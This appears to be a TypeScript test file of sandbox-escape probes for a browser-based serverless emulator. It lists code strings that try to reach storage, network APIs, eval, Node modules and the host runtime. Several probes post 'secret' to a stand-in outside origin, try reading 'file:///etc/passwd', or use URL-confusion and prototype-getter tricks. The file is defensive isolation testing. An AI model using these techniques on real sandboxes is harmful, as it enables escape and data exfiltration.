// Ways out of a sandbox, as text. Each is the body of an async function that is given `PAGE` and `OUTSIDE` (origins) and
// answers true when it got out; throwing or anything else means that it did not.

/** What a handler has in its hands, and whatever it may find to be the realm's own global. */
const ROOTS = `const roots = [globalThis, global, (function () { return this })(), Object.getPrototypeOf(globalThis)];
try { roots.push((0, Reflect.get(globalThis, 'eval'))('this')) } catch {}
try { roots.push([].map.constructor('return this')()) } catch {}
try { new Error('x', { get cause() { return 1 } }); Error.prepareStackTrace = (_, sites) => { for (const site of sites) roots.push(site.getThis?.(), site.getFunction?.()); return '' }; void new Error('x').stack } catch {}
const find = (name) => { for (const root of roots) for (let at = root; at != null; at = Object.getPrototypeOf(at)) { try { const got = Reflect.get(at, name); if (got !== undefined) return got } catch {} } };
`

const reaches = (names: readonly string[]): string =>
  `${ROOTS} for (const name of ${JSON.stringify(names)}) { if (typeof globalThis[name] !== 'undefined' || find(name) !== undefined) return true }`

/** For handlers: nothing but the language and the environment is in reach. By class of the escape. */
export const HANDLER_PROBES: Readonly<Record<string, string>> = {
  LocalStorage: reaches(['localStorage', 'sessionStorage']),
  IndexedDb: reaches(['indexedDB', 'IDBFactory']),
  CacheStorage: reaches(['caches', 'CacheStorage']),
  OriginPrivateFiles: `${ROOTS} const storage = find('navigator')?.storage; return storage !== undefined && Boolean(await storage.getDirectory())`,
  Cookies: reaches(['document', 'cookieStore', 'Document']),
  FetchPage: `return (await fetch(PAGE + '/probe-fetch')).status > 0`,
  FetchOutside: `return (await fetch(OUTSIDE + '/probe-fetch', { method: 'POST', body: 'secret', mode: 'no-cors' })).status > 0`,
  FetchTricks: `const tries = ['data:text/plain,x', 'blob:' + PAGE + '/1', 'file:///etc/passwd', '//' + OUTSIDE.slice(5), OUTSIDE + '@bank.example.com/', 'https://bank.example.com@' + OUTSIDE.slice(7)];
    for (const url of tries) { try { if ((await fetch(new Request(url))).status > 0) return true } catch {} }`,
  XmlHttpRequest: reaches(['XMLHttpRequest']),
  WebSocket: reaches(['WebSocket', 'WebSocketStream']),
  EventSource: reaches(['EventSource']),
  Beacon: `${ROOTS} return find('navigator')?.sendBeacon?.(OUTSIDE + '/probe-beacon', 'x') === true`,
  WebRtc: reaches(['RTCPeerConnection', 'RTCDataChannel', 'webkitRTCPeerConnection']),
  WebTransport: reaches(['WebTransport']),
  BroadcastChannel: reaches(['BroadcastChannel', 'MessageChannel', 'MessagePort', 'SharedArrayBuffer']),
  ImportScripts: `${ROOTS} const load = find('importScripts'); if (load) { load(PAGE + '/probe-import-scripts'); return true }`,
  DynamicImportPage: `const at = PAGE + '/probe-import.js'; await import(at); return true`,
  DynamicImportData: `const at = 'data:text/javascript,export default 1'; return (await import(at)).default === 1`,
  Eval: `${ROOTS} const run = find('eval'); return run !== undefined && run('1 + 1') === 2`,
  IndirectEval: `return (0, globalThis.eval ?? Reflect.get(globalThis, 'eval'))('1 + 1') === 2`,
  FunctionConstructor: `return Function('return 1')() === 1`,
  FunctionThroughChain: `return [].filter.constructor('return 1')() === 1`,
  AsyncFunctionConstructor: `return (await (async () => {}).constructor('return 1')()) === 1`,
  GeneratorConstructor: `return (function* () {}).constructor('yield 1')().next().value === 1`,
  AsyncGeneratorConstructor: `return (await (async function* () {}).constructor('yield 1')().next()).value === 1`,
  ReflectConstruct: `return Reflect.construct(Object.getPrototypeOf(async () => {}).constructor, ['return 1'])() !== undefined`,
  BoundFunctionConstructor: `return Function.prototype.constructor.bind(null, 'return 1')()() === 1`,
  TimerWithText: `globalThis.ran = false; setTimeout('globalThis.ran = true', 1); await new Promise((done) => setTimeout(done, 20)); return globalThis.ran === true`,
  WebAssembly: reaches(['WebAssembly']),
  NestedWorker: reaches(['Worker', 'SharedWorker', 'ServiceWorker', 'Blob', 'File']),
  BlobUrl: `return typeof URL.createObjectURL === 'function' && URL.createObjectURL({}) !== ''`,
  Navigation: reaches(['location', 'open', 'parent', 'top', 'frames', 'opener', 'history', 'close', 'name', 'origin']),
  NodeDoors: `${ROOTS} for (const name of ['fs', 'child_process', 'http', 'net', 'vm', 'worker_threads', 'module', 'inspector']) { try { const at = name; if (await import('node:' + at)) return true } catch {} }
    return find('require') !== undefined || process.binding !== undefined || process.mainModule !== undefined || process.dlopen !== undefined`,
  SteeringPort: `${ROOTS} for (const name of ['postMessage', 'onmessage', 'addEventListener', 'dispatchEvent', 'self', 'MessageEvent']) if (find(name) !== undefined) return true`,
  SteeringByListener: `let heard = 0; for (const on of [undefined, null, globalThis]) { try { EventTarget.prototype.addEventListener.call(on, 'message', () => { heard += 1 }) } catch {} } await new Promise((done) => setTimeout(done, 50)); return heard > 0`,
  Comlink: `${ROOTS} for (const key of [Symbol.for('Comlink.proxy'), Symbol.for('Comlink.endpoint'), 'Comlink', 'transferHandlers']) if (find(key) !== undefined) return true`,
  KernelByName: reaches([
    '$faas_define',
    '$faas_ports',
    '$faas_package',
    '$faas_define_package',
    'faaslabAwsSdk',
    'kernel',
    'emulator',
    'session',
    'realm',
  ]),
  KernelByModule: `const out = []; for (const path of ['#runtime', '#emulator', '../../runtime', '/var/runtime/index.mjs', '../other/index.mjs']) { try { const at = path; out.push(await import(at)) } catch {} } return out.length > 0`,
  KernelByCaller: `return (function probe() { return probe.caller ?? probe.arguments?.callee?.caller })() !== null`,
  KernelByStack: `${ROOTS} Error.stackTraceLimit = 100; const { stack } = new Error('where'); return /sealed|blob:|http:|worker/.test(stack) || roots.some((root) => typeof root === 'function' && root !== undefined && String(root).includes('runUntil'))`,
  KernelByThenable: `let seen; Object.defineProperty(Object.prototype, 'then', { configurable: true, get() { if (this && (this.nowUs || this.runUntil || this.steering)) seen = this; return undefined } }); await new Promise((done) => setTimeout(done, 10)); delete Object.prototype.then; return seen !== undefined`,
  OtherEnvironment: `return globalThis.leftBehind !== undefined || process.env.LEFT_BEHIND !== undefined || console.leftBehind !== undefined || Math.leftBehind !== undefined || Date.leftBehind !== undefined || Intl.leftBehind !== undefined || crypto.leftBehind !== undefined || process.leftBehind !== undefined || fetch.leftBehind !== undefined`,
  OtherFunctionsFiles: `const at = '../leaver/index.mjs'; return (await import(at)) !== undefined`,
  HostTime: `return Math.abs(new Date().getFullYear() - 2026) > 0 || new Intl.DateTimeFormat().resolvedOptions().timeZone !== 'UTC' || new Event('x').timeStamp > 0`,
}

/** Leaves things behind for OtherEnvironment. */
export const LEAVER = `export const handler = async () => {
  for (const owner of [globalThis, console, Math, Date, Intl, crypto, process, fetch]) { try { owner.leftBehind = 'secret' } catch {} }
  process.env.LEFT_BEHIND = 'secret'
  return 'left'
}
`

/** For the realm's raw thread, walls broken and every name in reach: the browser's own walls must hold. */
export const THREAD_PROBES: Readonly<Record<string, string>> = {
  localStorage: `return typeof localStorage !== 'undefined'`,
  indexedDB: `return await new Promise((done) => { const open = indexedDB.open('faaslab'); open.onsuccess = () => done(true); open.onerror = () => done(false) })`,
  caches: `return (await caches.keys()) !== undefined`,
  files: `return (await navigator.storage.getDirectory()) !== undefined`,
  cookies: `return (await cookieStore.getAll()) !== undefined`,
  locks: `return (await navigator.locks.query()) !== undefined`,
  fetch: `return (await fetch(PAGE + '/thread-fetch')).ok`,
  fetchOutside: `await fetch(OUTSIDE + '/thread-fetch', { method: 'POST', mode: 'no-cors', body: 'secret' }); return true`,
  fetchKeepalive: `await fetch(OUTSIDE + '/thread-keepalive', { method: 'POST', mode: 'no-cors', keepalive: true }); return true`,
  xhr: `return await new Promise((done) => { const request = new XMLHttpRequest(); request.onload = () => done(true); request.onerror = () => done(false); request.open('GET', OUTSIDE + '/thread-xhr'); request.send() })`,
  webSocket: `return await new Promise((done) => { const socket = new WebSocket(OUTSIDE.replace('http', 'ws') + '/thread-socket'); socket.onopen = () => done(true); socket.onerror = () => done(false) })`,
  eventSource: `return await new Promise((done) => { const source = new EventSource(OUTSIDE + '/thread-events'); source.onopen = () => done(true); source.onerror = () => { source.close(); done(false) } })`,
  beacon: `return navigator.sendBeacon(OUTSIDE + '/thread-beacon', 'secret')`,
  webRtc: `return typeof RTCPeerConnection !== 'undefined'`,
  webTransport: `await new WebTransport(OUTSIDE.replace('http:', 'https:') + '/thread-transport').ready; return true`,
  importScripts: `importScripts(PAGE + '/thread-import-scripts.js'); return true`,
  importScriptsOutside: `importScripts(OUTSIDE + '/thread-import-scripts.js'); return true`,
  dynamicImport: `await import(OUTSIDE + '/thread-import.js'); return true`,
  evaluates: `return eval('1 + 1') === 2`,
  constructs: `return new Function('return 1')() === 1`,
  timerText: `globalThis.ran = false; setTimeout('globalThis.ran = true'); await new Promise((done) => setTimeout(done, 50)); return globalThis.ran`,
  nestedWorkerFromPage: `return await new Promise((done) => { const worker = new Worker(PAGE + '/assets/x.js'); worker.onerror = () => done(false); worker.onmessage = () => done(true); setTimeout(done, 300, false) })`,
  nestedWorkerReaches: `const text = 'fetch("' + OUTSIDE + '/nested-fetch").then(() => postMessage(1), () => postMessage(0))';
    return await new Promise((done) => { const worker = new Worker(URL.createObjectURL(new Blob([text]))); worker.onmessage = ({ data }) => done(data === 1); worker.onerror = () => done(false); setTimeout(done, 500, false) })`,
  sharedWorker: `return new SharedWorker(PAGE + '/x.js') !== undefined`,
  serviceWorker: `return (await navigator.serviceWorker.register(PAGE + '/x.js')) !== undefined`,
  broadcast: `const channel = new BroadcastChannel('faaslab'); return await new Promise((done) => { channel.onmessage = () => done(true); channel.postMessage({ type: 'probe' }); setTimeout(done, 100, false) })`,
  navigation: `location.href = OUTSIDE + '/thread-navigation'; return location.href.startsWith(OUTSIDE)`,
  clients: `return typeof clients !== 'undefined' && (await clients.openWindow(OUTSIDE)) !== undefined`,
  font: `const face = new FontFace('x', 'url(' + OUTSIDE + '/thread-font)'); await face.load(); return true`,
}
